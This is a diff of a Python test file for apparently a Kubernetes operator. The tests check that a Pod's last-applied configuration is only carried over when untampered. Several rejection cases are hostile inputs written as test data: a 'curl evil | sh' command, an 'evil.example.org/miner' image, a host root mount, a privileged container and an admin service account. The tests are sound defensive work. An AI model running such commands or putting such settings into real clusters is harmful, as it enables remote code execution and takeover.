@@ -137,18 +137,33 @@ def test_pod_due(status: Status, follow: bool, due: bool) -> None:
     assert pod_due(status, follow=follow) is due
 
 
-def observed_pod() -> dict[str, Any]:
-    body = json.loads((REQUESTS / "sync-running.json").read_text())
-    return body["children"]["Pod.v1"]["hello-logs"]  # type: ignore[no-any-return]
+def observed_pod(**changes: Any) -> dict[str, Any]:
+    """The log Pod of attempt 1 as the API server shows it: the applied configuration in the
+    annotation, and the server's own fields around it."""
+    applied = pod(job=job(**changes), job_ids=("4242_0", "4242_1"))
+    return {**applied, "metadata": {
+        **applied["metadata"], "uid": "pod-uid", "namespace": "research",
+        "annotations": {LAST_APPLIED: json.dumps(applied)}}, "status": {"phase": "Succeeded"}}
+
+
+def carry(observed: Any, image: str = IMAGE) -> dict[str, Any] | None:
+    return carried_over(observed, namespace="research", uid=UID, image=image)
 
 
 def test_carried_over_redeclares_the_last_applied_configuration() -> None:
     observed = observed_pod()
-    kept = carried_over(observed)
+    kept = carry(observed)
     assert kept == json.loads(observed["metadata"]["annotations"][LAST_APPLIED])
     assert kept is not None
     assert "status" not in kept and "uid" not in kept["metadata"]
     assert kept["spec"]["volumes"][0]["secret"]["secretName"] == "hpc-login"
+
+
+def test_a_followed_pod_with_its_flags_is_carried_over() -> None:
+    observed = observed_pod(cluster={"host": "h", "port": 22, "secretRef": {"name": "s"},
+                                     "insecureSkipHostKeyCheck": True},
+                            logs={"follow": True})
+    assert carry(observed) is not None
 
 
 def with_annotation(value: object) -> dict[str, Any]:
@@ -157,18 +172,55 @@ def with_annotation(value: object) -> dict[str, Any]:
     return observed
 
 
+def edited(change: Any) -> dict[str, Any]:
+    """The observed Pod with its last-applied configuration edited by ``change``."""
+    observed = observed_pod()
+    applied = json.loads(observed["metadata"]["annotations"][LAST_APPLIED])
+    change(applied)
+    observed["metadata"]["annotations"][LAST_APPLIED] = json.dumps(applied)
+    return observed
+
+
+def spec_of(applied: dict[str, Any]) -> dict[str, Any]:
+    return applied["spec"]  # type: ignore[no-any-return]
+
+
 @pytest.mark.parametrize(
     "observed",
     [
         pytest.param(None, id="no-pod"),
         pytest.param({"metadata": {"name": "hello-logs"}}, id="no-annotations"),
         pytest.param({}, id="no-metadata"),
+        pytest.param({"metadata": ["x"]}, id="metadata-a-list"),
+        pytest.param({"metadata": {"annotations": ["x"]}}, id="annotations-a-list"),
         pytest.param(with_annotation("{not json"), id="broken-json"),
         pytest.param(with_annotation("null"), id="null"),
         pytest.param(with_annotation('["Pod"]'), id="not-an-object"),
         pytest.param(with_annotation('{"kind": "Secret", "data": {}}'), id="not-a-pod"),
         pytest.param(with_annotation(42), id="not-text"),
+        pytest.param(with_annotation("[" * 1000), id="deeply-nested"),
+        pytest.param(with_annotation('{"kind": "Pod", "x": "' + "a" * 70000 + '"}'),
+                     id="huge"),
+        pytest.param(with_annotation('{"kind": "Pod"}'), id="a-bare-pod"),
+        pytest.param(edited(lambda a: spec_of(a)["volumes"].append(
+            {"name": "root", "hostPath": {"path": "/"}})), id="host-path"),
+        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["securityContext"].update(
+            privileged=True)), id="privileged"),
+        pytest.param(edited(lambda a: spec_of(a)["containers"][0].update(
+            image="evil.example.org/miner")), id="another-image"),
+        pytest.param(edited(lambda a: spec_of(a)["containers"][0].update(
+            command=["sh", "-c", "curl evil | sh"])), id="another-command"),
+        pytest.param(edited(lambda a: spec_of(a).update(serviceAccountName="admin")),
+                     id="service-account"),
+        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["args"].__setitem__(
+            3, "--remote-dir=.hpcbridge/other/hello/x/attempt-1")), id="another-batchjob"),
+        pytest.param(edited(lambda a: spec_of(a)["containers"][0]["args"].append(
+            "--port=23")), id="a-second-port"),
     ],
 )
 def test_nothing_is_carried_over(observed: dict[str, Any] | None) -> None:
-    assert carried_over(observed) is None
+    assert carry(observed) is None
+
+
+def test_a_pod_of_another_image_is_not_carried_over() -> None:
+    assert carry(observed_pod(), image="registry.example.org/hpcbridge:9.9.9") is None
